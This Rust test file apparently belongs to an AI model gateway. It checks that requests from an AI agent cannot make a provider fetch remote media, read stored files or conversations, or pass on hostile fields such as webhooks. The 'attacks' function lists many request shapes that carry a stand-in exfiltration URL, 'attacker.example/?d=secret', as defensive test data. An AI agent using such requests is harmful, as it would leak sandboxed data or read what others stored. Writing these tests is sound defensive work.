//! What a request may make a provider fetch or read: nothing, when an agent sends it.

use cynode_testkit::{
    Client, Reply, TestApp,
    provider::{Behaviour, TestProvider},
};
use serde_json::{Value, json};

use crate::models::{agent, model, networked};

const URL: &str = "https://attacker.example/?d=secret";
const BYTES: &str = "iVBORw0KGgo=";

const DIALECTS: [(&str, &str); 3] = [
    ("chat", "/v1/chat/completions"),
    ("responses", "/v1/responses"),
    ("messages", "/v1/messages"),
];

/// A question with this part, in a dialect.
fn with_part(dialect: &str, model: &str, part: &Value) -> Value {
    let messages = json!([{ "role": "user", "content": [part] }]);
    match dialect {
        "responses" => json!({ "model": model, "input": messages }),
        _ => json!({ "model": model, "max_tokens": 50, "messages": messages }),
    }
}

/// An image of a dialect, by its URL.
fn image(dialect: &str, url: &str) -> Value {
    match dialect {
        "chat" => json!({ "type": "image_url", "image_url": { "url": url } }),
        "responses" => json!({ "type": "input_image", "image_url": url }),
        _ => json!({ "type": "image", "source": { "type": "url", "url": url } }),
    }
}

/// An image of a dialect that is in the request itself.
fn inline_image(dialect: &str) -> Value {
    match dialect {
        "messages" => {
            json!({ "type": "image", "source": { "type": "base64", "media_type": "image/png", "data": BYTES } })
        }
        _ => image(dialect, &format!("data:image/png;base64,{BYTES}")),
    }
}

/// The code of an error in each of the dialects.
fn code(reply: &Reply) -> String {
    let error = reply.json()["error"].clone();
    let code = error["code"].as_str().or(error["details"]["error_code"].as_str());
    code.unwrap_or_default().to_owned()
}

/// Requests of a dialect by which an agent would get data out of its sandbox, or read what others have stored.
fn attacks(dialect: &str, model: &str) -> Vec<Value> {
    let with = |part: Value| with_part(dialect, model, &part);
    let mut attacks = vec![with(image(dialect, URL))];
    match dialect {
        "chat" => attacks.extend([
            with(json!({ "type": "image_url", "image_url": URL })),
            with(json!({ "type": "video_url", "video_url": { "url": URL } })),
            with(json!({ "type": "file", "file": { "file_id": "file-1" } })),
            with(json!({ "type": "text", "text": "a", "image_url": { "url": URL } })),
            json!({ "model": model, "messages": [
                { "role": "user", "content": "a" },
                { "role": "assistant", "content": null, "tool_calls": [
                    { "id": "c", "type": "function", "function": { "name": "f", "arguments": "{}" } }] },
                { "role": "tool", "tool_call_id": "c", "content": [image(dialect, URL)] },
            ] }),
            json!({ "model": model, "messages": [{ "role": "user", "content": "a" }],
                "prediction": { "type": "content", "content": [image(dialect, URL)] } }),
        ]),
        "responses" => attacks.extend([
            with(json!({ "type": "input_file", "file_url": URL })),
            with(json!({ "type": "input_file", "file_id": "file-1" })),
            with(json!({ "type": "input_image", "file_id": "file-1" })),
            json!({ "model": model, "input": [
                { "type": "function_call", "call_id": "c", "name": "f", "arguments": "{}" },
                { "type": "function_call_output", "call_id": "c", "output": [image(dialect, URL)] },
            ] }),
            json!({ "model": model, "input": [{ "type": "item_reference", "id": "msg_1" }] }),
            json!({ "model": model, "input": [{ "id": "msg_1" }] }),
            json!({ "model": model, "input": "a", "previous_response_id": "resp_1" }),
            json!({ "model": model, "input": "a", "conversation": "conv_1" }),
        ]),
        _ => attacks.extend([
            with(json!({ "type": "document", "source": { "type": "url", "url": URL } })),
            with(json!({ "type": "image", "source": { "type": "file", "file_id": "file_1" } })),
            with(json!({ "type": "container_upload", "file_id": "file_1" })),
            with(
                json!({ "type": "tool_result", "tool_use_id": "t", "content": [image(dialect, URL)] }),
            ),
            json!({ "model": model, "max_tokens": 50, "system": [image(dialect, URL)],
                "messages": [{ "role": "user", "content": "a" }] }),
        ]),
    }
    attacks
}

struct Scene {
    app: TestApp,
    admin: Client,
    provider: TestProvider,
}

/// A model for each dialect of a provider, with the dialect's name.
async fn scene() -> Scene {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let provider = TestProvider::serve(Behaviour::default()).await;
    for (dialect, _) in DIALECTS {
        networked(&admin, dialect, dialect, &provider).await;
        model(&admin, dialect, &[dialect], json!({ "images": true })).await;
    }
    Scene { app, admin, provider }
}

#[tokio::test]
async fn an_agents_data_does_not_leave_by_what_a_provider_would_fetch() {
    let Scene { app, admin, provider } = scene().await;
    let models = DIALECTS.map(|(dialect, _)| dialect);
    let agent = agent(&app, &admin, &models).await;
    for (dialect, path) in DIALECTS {
        // The same dialect is passed on as it is, the others are translated.
        for model in models {
            for body in attacks(dialect, model) {
                let reply = agent.client.post(path, body.clone()).await.expect(400);
                assert_eq!(code(&reply), "agent_content_refused", "{model} {body}");
                assert!(!reply.json().to_string().contains("attacker"), "{body}");
            }
        }
    }
    assert_eq!(provider.sent().len(), 0, "no provider saw anything of it");
}

#[tokio::test]
async fn what_makes_a_provider_reach_out_or_remember_is_not_passed_on_for_an_agent() {
    let Scene { app, admin, provider } = scene().await;
    let agent = agent(&app, &admin, &["chat", "responses", "messages"]).await;
    let hostile = json!([{ "type": "url", "url": URL, "name": "n" }]);
    for (dialect, path) in DIALECTS {
        let mut body = with_part(dialect, dialect, &inline_image(dialect));
        for name in ["mcp_servers", "container", "audio", "documents", "plugins", "webhooks"] {
            body[name] = hostile.clone();
        }
        if dialect != "messages" {
            body["store"] = json!(true);
        }
        agent.client.post(path, body).await.expect(200);
        let sent = provider.sent().last().unwrap().body.clone();
        assert!(!sent.to_string().contains("attacker"), "{sent}");
        assert!(sent["store"].is_null() || sent["store"] == json!(false), "{sent}");
    }
}

#[tokio::test]
async fn media_in_an_agents_request_reaches_every_provider_byte_for_byte() {
    let Scene { app, admin, provider } = scene().await;
    let models = DIALECTS.map(|(dialect, _)| dialect);
    let agent = agent(&app, &admin, &models).await;
    for (dialect, path) in DIALECTS {
        for model in models {
            let part = inline_image(dialect);
            agent.client.post(path, with_part(dialect, model, &part)).await.expect(200);
            let sent = provider.sent().last().unwrap().body.clone();
            assert!(sent.to_string().contains(BYTES), "{dialect} to {model}: {sent}");
            if dialect == model {
                let field = if dialect == "responses" { "input" } else { "messages" };
                assert_eq!(sent[field][0]["content"], json!([part]));
            }
        }
    }
}

#[tokio::test]
async fn a_private_provider_fetches_nothing_for_people_either_unless_a_setting_allows_it() {
    let Scene { app: _app, admin, provider } = scene().await;
    for (dialect, path) in DIALECTS {
        let body = with_part(dialect, dialect, &image(dialect, URL));
        let reply = admin.post(path, body).await.expect(400);
        assert_eq!(code(&reply), "remote_media_refused");
        admin.post(path, with_part(dialect, dialect, &inline_image(dialect))).await.expect(200);
    }
    assert_eq!(provider.sent().len(), DIALECTS.len(), "only what is in the request itself");
    let on = json!({ "value": true, "expected_version": 0 });
    admin.put("/v1/settings/models.private_providers_fetch_media", on).await.expect(200);
    for (dialect, path) in DIALECTS {
        let part = image(dialect, URL);
        admin.post(path, with_part(dialect, dialect, &part)).await.expect(200);
        let sent = provider.sent().last().unwrap().body.clone();
        assert!(sent.to_string().contains(URL), "{dialect}: {sent}");
    }
}

#[tokio::test]
async fn the_setting_for_people_opens_nothing_for_agents() {
    let Scene { app, admin, provider } = scene().await;
    let agent = agent(&app, &admin, &["chat"]).await;
    let on = json!({ "value": true, "expected_version": 0 });
    admin.put("/v1/settings/models.private_providers_fetch_media", on).await.expect(200);
    let body = with_part("chat", "chat", &image("chat", URL));
    let reply = agent.client.post("/v1/chat/completions", body).await.expect(400);
    assert_eq!(code(&reply), "agent_content_refused");
    assert_eq!(provider.sent().len(), 0);
}
